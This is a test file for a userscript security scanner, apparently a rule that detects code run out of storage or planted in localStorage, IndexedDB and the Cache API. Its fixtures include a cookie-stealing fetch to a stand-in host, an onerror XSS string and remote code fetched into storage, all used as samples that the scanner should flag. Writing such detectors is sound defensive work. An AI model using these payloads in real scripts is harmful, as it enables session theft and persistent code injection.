import { describe, expect, test } from "vitest";
import { findIn, userscript } from "../testing/find-in.ts";
import { storedCode } from "./stored-code.ts";

describe("stored-code", () => {
	test.each([
		[
			"code out of its own storage",
			["medium 6"],
			userscript(["match https://shop.example/*", "grant GM_getValue"], `eval(GM_getValue("code"))`),
		],
		[
			"code out of the site\u2019s storage",
			["medium 5"],
			userscript(["match https://shop.example/*"], `new Function(localStorage.getItem("plugin"))()`),
		],
	])("finds %s", (_title, expected, code) => {
		expect(findIn(storedCode, code)).toEqual(expected);
	});

	test.each([
		[
			"settings out of storage",
			userscript(
				["match https://shop.example/*", "grant GM_getValue"],
				`document.body.style.color=GM_getValue("colour")`,
			),
		],
	])("leaves alone %s", (_title, code) => {
		expect(findIn(storedCode, code)).toEqual([]);
	});

	test("markup with code that is kept where the site finds it", () => {
		expect(findIn(storedCode, 'localStorage.box = `<img src=x onerror="f()">`')).toEqual(["medium 1"]);
		expect(findIn(storedCode, 'localStorage.box = "<b>text</b>"')).toEqual([]);
	});

	const on = (body: string) => userscript(["match https://shop.example/*"], body);
	const STEAL = `fetch("https://c.test/?" + document.cookie)`;

	test.each([
		["in web storage", `localStorage.setItem("widget", '${STEAL}');`],
		["as a property of a storage", `sessionStorage.appBundle = "(function () { ${STEAL.replaceAll('"', "'")} })()";`],
		[
			"in a database",
			`indexedDB.open("a").onsuccess = ({ target }) => target.result.transaction("c", "readwrite").objectStore("c").put('${STEAL}', "main");`,
		],
		[
			"as a field of an object in a database",
			`indexedDB.open("a").onsuccess = ({ target }) => target.result.transaction("c", "readwrite").objectStore("c").put({ id: 1, code: '${STEAL}' });`,
		],
		["in the cache", `caches.open("v1").then((cache) => cache.put("/main.js", new Response('${STEAL}')));`],
		[
			"from a stranger, in the cache",
			`caches.open("v1").then(async (cache) => cache.put("/main.js", await fetch("https://c.test/x")));`,
		],
		[
			"from a stranger, under the name of code",
			`fetch("https://c.test/x").then((r) => r.text()).then((t) => localStorage.setItem("app:bundle.js", t));`,
		],
	])("finds a program that is planted %s", (_title, body) => {
		expect(findIn(storedCode, on(body))).toEqual(["medium 5"]);
	});

	test.each([
		["settings", `localStorage.setItem("settings", JSON.stringify({ dark: true }));`],
		["a note", `localStorage.note = "Remember (this) = important: import the list, then fetch it";`],
		["a style", `localStorage.setItem("css", "body { background: url(/x.png) }");`],
		[
			"an answer of another server",
			`fetch("https://c.test/rates").then((r) => r.text()).then((t) => localStorage.setItem("rates", t));`,
		],
		[
			"pictures",
			`caches.open("pictures").then(async (cache) => cache.put("https://c.test/a.png", await fetch("https://c.test/a.png")));`,
		],
	])("leaves alone %s that is kept", (_title, body) => {
		expect(findIn(storedCode, on(body))).toEqual([]);
	});
});
